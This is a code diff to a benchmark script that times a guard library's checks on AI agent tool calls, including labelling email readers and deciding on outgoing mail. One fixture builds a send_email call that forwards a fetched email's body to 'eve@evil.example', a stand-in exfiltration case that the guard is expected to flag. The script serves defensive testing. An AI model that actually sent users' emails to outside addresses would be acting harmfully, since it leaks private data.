@@ -9,7 +9,9 @@ Measures (medians over repeats, microseconds per operation):
 * ``trace_us``: ``FlowTracker.trace_outflow`` alone for that call;
 * ``note_us``: folding an executed call's short pieces into the ledger (``note_executed``);
 * ``readers_label_us``: labelling a 5-email YAML output with its readers (parse and canonicalise);
-* ``decide_readers_us``: ``decide`` of a ``send_email`` whose body is traced to that output.
+* ``readers_label_cached_us``: the same output again (the readers of texts up to 64 KiB are cached);
+* ``decide_readers_us``: ``decide`` of a ``send_email`` whose body is traced to that output, and
+  ``decide_send_without_recipients_us``: the same call under the policy without ``recipients``.
 
 Run: ``PYTHONPATH=src python benchmarks/outflow_costs.py --json`` (``--quick`` for a smoke run).
 """
@@ -95,13 +97,20 @@ def measure(n: int, repeats: int) -> dict[str, float]:
     mail = Guard(Policy.from_yaml(POLICY), SQLiteStore(":memory:")).start_session("help me with my mail")
     d = mail.check("get_emails", {})
     rec_args: dict[str, Any] = {}
+    m = max(n // 10, 1)
+    texts = iter([text + f"# {i}\n" for i in range(m * repeats)])  # distinct texts: no cache hit
     out["readers_label_us"] = _median_us(
-        lambda: result_label(mail.policy, mail.state, "get_emails", rec_args, text, error=False), max(n // 10, 1), repeats
+        lambda: result_label(mail.policy, mail.state, "get_emails", rec_args, next(texts), error=False), m, repeats
+    )
+    out["readers_label_cached_us"] = _median_us(
+        lambda: result_label(mail.policy, mail.state, "get_emails", rec_args, text, error=False), m, repeats
     )
     mail.record_result(d.call_id, text)
     send = ToolCall("send_email", {"recipients": ["eve@evil.example"], "body": EMAILS[2]["body"]})
     assert decide(mail.policy, mail.state, send, "sha256:x", 0.0).verdict == "ask"
     out["decide_readers_us"] = _median_us(lambda: decide(mail.policy, mail.state, send, "sha256:x", 0.0), n, repeats)
+    plain_policy = Policy.from_yaml(POLICY.replace("    recipients: [recipients]\n", ""))
+    out["decide_send_without_recipients_us"] = _median_us(lambda: decide(plain_policy, mail.state, send, "sha256:x", 0.0), n, repeats)
     out["outflow_over_plain"] = round(out["decide_outflow_us"] / out["decide_plain_us"], 2)
     return out
 
